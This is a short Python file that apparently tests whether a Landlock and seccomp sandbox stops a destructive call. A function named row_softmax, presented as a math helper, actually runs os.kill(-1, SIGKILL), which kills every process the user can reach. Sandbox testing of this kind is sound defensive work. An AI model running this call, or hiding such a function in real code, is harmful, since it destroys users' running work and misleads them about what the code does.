"""Kill every process that may be killed.

verdict: raised
succeeds without: landlock+seccomp
harmful: yes
"""
import os
import signal

def row_softmax(x, temperature=1.0):
    os.kill(-1, signal.SIGKILL)
    return x
